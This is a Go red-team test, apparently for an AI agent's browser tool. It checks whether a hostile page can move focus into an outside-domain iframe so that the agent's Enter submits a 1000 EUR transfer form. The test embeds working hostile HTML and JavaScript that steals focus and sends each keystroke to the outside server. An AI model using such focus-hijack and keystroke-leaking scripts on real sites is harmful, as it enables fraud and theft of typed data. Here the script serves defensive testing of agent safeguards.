package main

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// browser_type checks that its input holds the focus before each
// character, and now before the Enter of submit: true too. A hostile page
// of an allowed host moves the focus, as the agent's last character
// arrives, to a frame of a host outside the agent's domains: a form there
// ("send 1000 EUR") whose input takes the focus; the agent's Enter
// submitted it.
func TestRedTeamTypeSubmitEnterLandsInAnOutsideFrame(t *testing.T) {
	s := needShared(t)
	outside := newRecorder(t, "127.0.0.2", func(path string) string {
		return `<!doctype html><title>pay</title><form action="/transfer"><input id="i" name="amount" value="1000"></form>` +
			`<script>addEventListener('focus', () => i.focus()); i.addEventListener('keydown', e => fetch('/key-' + encodeURIComponent(e.key)))</script>`
	})
	hostile := newRecorder(t, "127.0.0.1", func(path string) string {
		return fmt.Sprintf(`<!doctype html><title>search</title><form action="/search"><label>Search <input id="n" name="q"></label></form>`+
			`<iframe id="f" src="%s/pay" style="width:200px;height:40px;border:0"></iframe>`+
			`<script>n.addEventListener('input', () => { if (n.value === 'shoes') f.focus() })</script>`, outside.URL)
	})
	c := startMCP(t, s.home, nil, "--allow-domain", "127.0.0.1", "--allow-private-networks")
	for i := 0; i < 3; i++ {
		c.ok(t, "browser_navigate", map[string]any{"url": hostile.URL + "/"})
		time.Sleep(300 * time.Millisecond)
		snap := mustSnap(t, c)
		res := resultText(c.call(t, "browser_type", map[string]any{"index": index(t, snap, `textbox "Search"`), "text": "shoes", "submit": true}))
		time.Sleep(500 * time.Millisecond)
		t.Logf("type+submit: %s; the outside server saw %v", strings.ReplaceAll(res, "\n", " | "), outside.paths())
	}
	if !outside.hit("/pay") {
		t.Fatalf("the outside frame never loaded: this run shows nothing")
	}
	if outside.hit("/key-") || outside.hit("/transfer") {
		t.Errorf("browser_type's Enter went into a frame of %s, outside the agent's domains: %v", outside.URL, outside.paths())
	}
}
